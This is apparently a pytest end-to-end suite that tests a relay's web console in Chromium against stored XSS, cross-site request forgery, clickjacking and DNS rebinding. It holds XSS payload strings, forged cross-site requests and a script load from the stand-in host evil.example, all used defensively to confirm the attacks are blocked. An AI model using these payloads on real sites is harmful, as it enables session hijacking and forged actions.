"""What hostile pages and stored scripts can do to a relay and its console, in a real Chromium.

After OWASP's Web Security Testing Guide: stored scripts (WSTG-INPV-02), cross-site requests (WSTG-SESS-05),
clickjacking (WSTG-CLNT-09), resources of other origins (WSTG-CLNT-06), and DNS rebinding. ``evil.example`` and
``rebound.example`` are names for 127.0.0.1 in this browser only.
"""

from __future__ import annotations

import json
from collections.abc import AsyncIterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
import pytest_asyncio
from aiohttp import ClientSession, web
from aiohttp.test_utils import RawTestServer
from playwright.async_api import Browser, Page

from tests.e2e.console_stage import Visit, chromium, visit
from tests.services.relay import RelayProcess
from tests.services.scripted_upstream import Call, ScriptedUpstream, chunks, ok, scripted

pytestmark = pytest.mark.asyncio(loop_scope="module")

SAMPLES = Path(__file__).parents[1] / "samples" / "novita_task"
RULES = "--host-resolver-rules=MAP evil.example 127.0.0.1, MAP rebound.example 127.0.0.1"
SCRIPTS = [
    "<img src=x onerror=\"window.pwned='img'\">",
    "<script>window.pwned='script'</script>",
    "\"'><svg onload=window.pwned='svg'>",
    "javascript:window.pwned='link'",
]
PWNED = """[
  window.pwned,
  document.querySelectorAll("img[src=x], svg[onload], main script").length,
  [...document.querySelectorAll("[href], [src]")].filter(at => /^javascript:/i.test(at.href || at.src)).length,
]"""
KEPT = {"task_id", "status", "event_type"}


@dataclass
class Scene:
    """A relay without any token (the default), an upstream with scripted answers, and a page of another site."""

    relay: RelayProcess
    upstream: ScriptedUpstream
    browser: Browser
    evil: str


async def hostile_chat(call: Call) -> None:
    """A chat with a script in each text; or a task, or an error, of the same kind."""
    script = SCRIPTS[len(call.body) % len(SCRIPTS)]
    if b"/v3/" in call.head.split(b"\r\n", 1)[0]:
        await call.send(ok(json.dumps({"task_id": f"submitted-{len(call.body)}", "x": script}).encode()))
        return
    if b"please fail" in call.body:
        error = json.dumps({"error": {"message": script, "type": script, "code": script}}).encode()
        await call.send(ok(error, "Content-Type: application/json", status="400 Bad"))
        return
    function = {"name": script, "arguments": json.dumps({script: script})}
    delta = {"role": script, "content": script, "reasoning_content": script}
    calls = [{"index": 0, "id": script, "type": script, "function": function}]
    frame = {
        "id": script,
        "model": script,
        "choices": [{"index": 0, "delta": {**delta, "tool_calls": calls}, "finish_reason": script}],
    }
    sent = b"data: " + json.dumps(frame).encode() + b"\n\ndata: [DONE]\n\n"
    head = b"HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\nTransfer-Encoding: chunked\r\n\r\n"
    await call.send(head + chunks(sent))


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def scene(module_path: Path) -> AsyncIterator[Scene]:
    async def page(_: web.BaseRequest) -> web.Response:
        return web.Response(text="<!doctype html><title>evil</title><body></body>", content_type="text/html")

    server = RawTestServer(page)
    await server.start_server()
    async with scripted(hostile_chat) as upstream, chromium(RULES) as browser:
        relay = RelayProcess(module_path / "relay", upstream={"base_url": upstream.url}, reconcile={"enabled": False})
        config = json.loads(relay.config.read_text())
        config["webhooks"] = {"novita": {"tokens": []}}
        relay.config.write_text(json.dumps(config))
        await relay.start()
        yield Scene(relay, upstream, browser, f"http://evil.example:{server.port}")
        relay.kill()
    await server.close()


def poisoned(value: Any, script: str, key: str = "") -> Any:
    """A document with the script in the place of each text, except where the relay would not read it any more."""
    if isinstance(value, dict):
        return {name: poisoned(item, script, name) for name, item in value.items()} | {script: script}
    if isinstance(value, list):
        return [poisoned(item, script, key) for item in value]
    return script if isinstance(value, str) and key not in KEPT else value


async def poison(relay: RelayProcess) -> set[str]:
    """Puts scripts wherever a stranger's text ends up; the subjects that hold them."""
    subjects = set()
    async with ClientSession() as session:
        for number, sample in enumerate(sorted(SAMPLES.glob("*.json"))):
            script = SCRIPTS[number % len(SCRIPTS)]
            document = poisoned(json.loads(sample.read_text("utf-8")), script)
            result = document.get("payload", document) if isinstance(document, dict) else None
            if isinstance(result, dict) and isinstance(result.get("task"), dict):
                result["task"]["task_id"] = f"{number}-{script}"
                subjects.add(result["task"]["task_id"])
            await sent(session, f"{relay.url}/webhooks/novita", document)
        for body in ({"task": {"task_id": script, "status": script}} for script in SCRIPTS):
            await sent(session, f"{relay.url}/webhooks/novita", body)
        for said in (*SCRIPTS, "please fail"):
            chat = {"model": said, "stream": True, "messages": [{"role": "user", "content": said}], "tool_choice": said}
            async with session.post(f"{relay.url}/openai/v1/chat/completions", json=chat) as response:
                subjects.add(response.headers["X-Relay-Chat-Id"])
                await response.read()
        await sent(session, f"{relay.url}/v3/async/{quote(SCRIPTS[0])}", {"prompt": SCRIPTS[0]})
    return subjects


async def sent(session: ClientSession, url: str, document: Any) -> None:
    async with session.post(url, json=document) as response:
        await response.read()


async def visited(here: Visit, address: str) -> None:
    """Looks at a view and opens all that can be opened there."""
    await here.open(address)
    await here.page.evaluate(
        "document.querySelectorAll('main button[aria-expanded=false], main summary').forEach(at => at.click())"
    )
    await here.page.evaluate("new Promise(done => requestAnimationFrame(() => setTimeout(done, 50)))")


async def test_no_stored_script_runs_in_any_view(scene: Scene) -> None:
    """Anyone who can deliver, chat or submit would act with the token of the operator who looks at the page."""
    subjects = await poison(scene.relay)
    assert len(subjects) > 10
    async with visit(scene.browser, scene.relay.url) as here:
        here.page.on("dialog", lambda dialog: here.said.append(f"error: dialog {dialog.message}"))
        async with ClientSession() as session, session.get(f"{scene.relay.url}/v1/dead-letters") as response:
            letters = [letter["id"] for letter in (await response.json())["dead_letters"]]
        assert letters
        views = ["#/overview", "#/events?topic=all", "#/tasks?state=all", "#/chats", "#/dead-letters", "#/health"]
        views += [f"#/subjects/{quote(subject, safe='')}" for subject in (*subjects, *SCRIPTS)]
        views += [f"#/dead-letters/{letter}" for letter in letters]
        views += [f"#/{SCRIPTS[0]}", f"#/events?topic={quote(SCRIPTS[0])}&subject={quote(SCRIPTS[2])}"]
        for view in views:
            await visited(here, view)
            assert await here.page.evaluate(PWNED) == [None, 0, 0], view
        unknown = "error: Failed to load resource"  # not a subject
        assert [text for text in here.errors() if not text.startswith(unknown)] == []
        foreign = [url for url in here.asked_for if not url.startswith((scene.relay.url, "https:", "http://127.0.0.1"))]
        assert foreign == []


async def test_the_policy_stops_what_would_get_in(scene: Scene) -> None:
    """One mistake in the page would be all it takes."""
    async with visit(scene.browser, scene.relay.url) as here:
        await here.open()
        attempt = """async evil => {
          const main = document.querySelector("main");
          main.insertAdjacentHTML("beforeend", "<img src=x onerror='pwned=1'><a id=go href='javascript:pwned=2'>x</a>");
          const inline = document.createElement("script");
          inline.textContent = "window.pwned = 3";
          main.append(inline);
          const foreign = document.createElement("script");
          foreign.src = evil + "/x.js";
          main.append(foreign);
          document.getElementById("go").click();
          const outcome = await fetch(evil, {mode: "no-cors"}).then(() => "sent", () => "stopped");
          await new Promise(done => setTimeout(done, 200));
          return [window.pwned ?? null, outcome];
        }"""
        assert await here.page.evaluate(attempt, scene.evil) == [None, "stopped"]
        stopped = {text.split(" ")[1] for text in here.said if text.startswith("violation")}
        assert {"script-src-elem", "script-src-attr", "connect-src"} <= stopped


async def elsewhere(scene: Scene, url: str) -> Page:
    """A page of another site."""
    context = await scene.browser.new_context()
    page = await context.new_page()
    await page.goto(url)
    return page


async def test_no_other_site_can_frame_the_console(scene: Scene) -> None:
    """A click on a page of somebody else's would replay or delete a dead letter."""
    page = await elsewhere(scene, scene.evil)
    await page.evaluate(
        """url => new Promise(done => {
          const frame = document.createElement("iframe");
          frame.onload = done;
          frame.src = url;
          document.body.append(frame);
        })""",
        scene.relay.url + "/",
    )
    assert [frame for frame in page.frames[1:] if frame.url.startswith(scene.relay.url)] == []
    await page.context.close()


ATTEMPTS = """async url => {
  const text = {"Content-Type": "text/plain"};
  const chat = JSON.stringify({model: "m", messages: []});
  const result = JSON.stringify({task: {task_id: "forged", status: "TASK_STATUS_SUCCEED"}});
  const tries = [
    ["/openai/v1/chat/completions", {method: "POST", mode: "no-cors", body: chat, headers: text}],
    ["/v3/async/txt2img", {method: "POST", mode: "no-cors", body: "{}", headers: text}],
    ["/webhooks/novita", {method: "POST", mode: "no-cors", body: result, headers: text}],
    ["/v1/tasks", {method: "POST", mode: "no-cors", body: JSON.stringify({task_id: "forged"}), headers: text}],
    ["/v1/tasks", {method: "POST", body: JSON.stringify({task_id: "forged"})}],
    ["/v1/dead-letters/any", {method: "DELETE"}],
    ["/v1/dead-letters/any/replay", {method: "POST", mode: "no-cors"}],
    ["/v1/events", {}],
    ["/v1/status", {credentials: "include"}],
  ];
  const read = [];
  for (const [path, options] of tries) {
    const seen = answer => answer.type === "opaque" ? "opaque" : answer.status;
    read.push(await fetch(url + path, options).then(seen, () => "stopped"));
  }
  const form = document.createElement("form");
  Object.assign(form, {method: "POST", action: url + "/webhooks/novita", enctype: "text/plain", target: "sink"});
  const field = document.createElement("input");
  Object.assign(field, {name: '{"task":{"task_id":"forged","status":"TASK_STATUS_SUCCEED"},"x":"', value: '"}'});
  form.append(field);
  const frame = document.createElement("iframe");
  frame.name = "sink";
  document.body.append(frame, form);
  await new Promise(done => { frame.onload = done; form.submit() });
  const followed = await new Promise(done => {
    const source = new EventSource(url + "/v1/events");
    source.onopen = () => done("open");
    source.onerror = () => done("stopped");
  });
  return [read, followed];
}"""


async def everything(relay: RelayProcess) -> str:
    async with ClientSession() as session, session.get(f"{relay.url}/v1/events?limit=1000") as response:
        events = await response.text()
        async with session.get(f"{relay.url}/v1/tasks?state=all") as tasks:
            return events + await tasks.text()


async def test_a_page_of_another_site_changes_and_reads_nothing(scene: Scene) -> None:
    """Any page that the user of this machine opens could write chats and results, and read what others said."""
    calls, before = len(scene.upstream.calls), await everything(scene.relay)
    page = await elsewhere(scene, scene.evil)
    read, followed = await page.evaluate(ATTEMPTS, scene.relay.url)
    assert set(read) <= {"opaque", "stopped"}
    assert followed == "stopped"
    await page.context.close()
    assert await everything(scene.relay) == before
    assert len(scene.upstream.calls) == calls


async def test_a_name_that_is_bound_to_this_machine_gets_nothing(scene: Scene) -> None:
    """A page would make itself the relay's own origin by its name server, and read and write all that there is."""
    calls, before = len(scene.upstream.calls), await everything(scene.relay)
    ask = """async tries => {
      const found = [];
      for (const [path, method, body] of tries) {
        const answer = await fetch(path, {method, body});
        found.push(answer.status);
      }
      return found;
    }"""
    tries = [
        ["/v1/events", "GET", None],
        ["/v1/dead-letters", "GET", None],
        ["/v1/dead-letters/any", "DELETE", None],
        ["/v1/tasks", "POST", '{"task_id":"forged"}'],
        ["/openai/v1/chat/completions", "POST", '{"model":"m","messages":[]}'],
        ["/v3/async/txt2img", "POST", "{}"],
        ["/webhooks/novita", "POST", '{"task":{"task_id":"forged","status":"TASK_STATUS_SUCCEED"}}'],
    ]
    page = await elsewhere(scene, f"http://rebound.example:{scene.relay.port}/")
    assert await page.evaluate(ask, tries) == [403] * len(tries)
    await page.goto(f"http://rebound.example:{scene.relay.admin_port}/livez")
    assert await page.evaluate(ask, [["/metrics", "GET", None]]) == [403]
    await page.context.close()
    assert await everything(scene.relay) == before
    assert len(scene.upstream.calls) == calls
